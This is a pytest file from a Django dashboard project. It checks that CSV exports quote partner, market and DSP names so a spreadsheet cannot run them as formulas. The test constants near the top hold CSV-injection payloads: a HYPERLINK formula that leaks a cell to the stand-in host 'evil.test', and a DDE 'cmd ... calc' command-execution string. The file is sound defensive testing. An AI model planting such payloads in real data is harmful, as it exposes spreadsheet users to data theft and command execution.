"""Issue 14, finding 5: no CSV download hands ops or an owner a spreadsheet formula.

A trade name, market or DSP name starting with `=`, `+`, `-`, `@`, a tab or a carriage return
reaches each export as text, quoted (hubdelivery.lib.csvutil); numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from dashboard import selectors
from dashboard.models import WeeklyStatement
from dashboard.services import statement_adjust, weekly_statements_compute
from hubdelivery.lib.csvutil import FORMULA_STARTS, NUMBER
from packages.models import Dsp
from tests.conftest import client_for
from tests.dashboard.test_statements import MONDAY, week  # noqa: F401  (a fixture)
from tests.dashboard.test_views import RANGE, csv_url

TRADE_NAME = '=HYPERLINK("http://evil.test/?leak="&A1,"Open")'
MARKET_NAME = "+Back Bay"
OTHER_TRADE_NAME = "-2+3+cmd|' /C calc'!A0"
DSP_NAMES = {"Alpha": "@SUM(1+1)", "Beta": "\t=1+2"}


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: a formula start that is not a plain number."""
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)
    ]


@pytest.fixture
def hostile_names(funnel, partner, other_partner, boston):
    """The hand-counted week of tests/dashboard/conftest.py, every name a formula."""
    partner.trade_name = TRADE_NAME
    partner.save(update_fields=["trade_name"])
    other_partner.trade_name = OTHER_TRADE_NAME
    other_partner.save(update_fields=["trade_name"])
    boston.name = MARKET_NAME
    boston.save(update_fields=["name"])
    for name, hostile in DSP_NAMES.items():
        Dsp.objects.filter(name=name).update(name=hostile)


@pytest.mark.parametrize("table", list(selectors.TABLE_BUILDERS))
def test_no_dashboard_csv_cell_is_a_formula(table, hostile_names, reviewer):
    # when ops download the table
    rows = rows_of(client_for(reviewer).get(csv_url(table), RANGE))
    # then no cell would run as a formula
    assert formulas(rows) == []


def test_scorecards_csv_keeps_the_hostile_trade_name_as_quoted_text(hostile_names, reviewer):
    # when ops download the partner scorecards
    rows = rows_of(client_for(reviewer).get(csv_url("partner-scorecards"), RANGE))
    # then the names are there, each behind a single quote
    cells = {cell for row in rows for cell in row}
    assert "'" + TRADE_NAME in cells
    assert "'" + OTHER_TRADE_NAME in cells


def test_operations_by_dsp_csv_quotes_dsp_names(hostile_names, reviewer):
    # when ops download the operations by DSP
    rows = rows_of(client_for(reviewer).get(csv_url("operations-by-dsp"), RANGE))
    # then each DSP name is quoted text
    cells = {cell for row in rows for cell in row}
    assert {"'" + hostile for hostile in DSP_NAMES.values()} <= cells


def test_partner_statement_csv_quotes_an_adjustment_reason(week, partner_owner, ops_admin):  # noqa: F811
    # given a week's statement with an adjustment whose reason is a formula
    weekly_statements_compute(week_start=MONDAY)
    statement = WeeklyStatement.objects.get(partner=week)
    statement_adjust(
        actor=ops_admin, statement=statement, amount=Decimal("-1.00"), reason=TRADE_NAME
    )
    # when the owner downloads it
    url = reverse("dashboard:partner-statement-csv", args=[statement.pk])
    rows = rows_of(client_for(partner_owner).get(url))
    # then the reason is quoted text and the money stays numbers
    assert rows[-2][-2:] == ["-1.00", "'" + TRADE_NAME]
    assert rows[1][-3:-1] == ["3.00", "3.00"]
    assert formulas(rows) == []


def test_ops_statements_csv_quotes_every_trade_name(week, other_partner, reviewer):  # noqa: F811
    # given two partners whose trade names are formulas
    week.trade_name = TRADE_NAME
    week.save(update_fields=["trade_name"])
    other_partner.trade_name = OTHER_TRADE_NAME
    other_partner.save(update_fields=["trade_name"])
    weekly_statements_compute(week_start=MONDAY)
    # when ops download the week's statements
    url = reverse("dashboard:ops-statements-csv")
    rows = rows_of(client_for(reviewer).get(url, {"week": MONDAY.isoformat()}))
    # then both names are quoted text
    assert sorted(row[0] for row in rows[1:]) == ["'" + OTHER_TRADE_NAME, "'" + TRADE_NAME]
    assert formulas(rows) == []
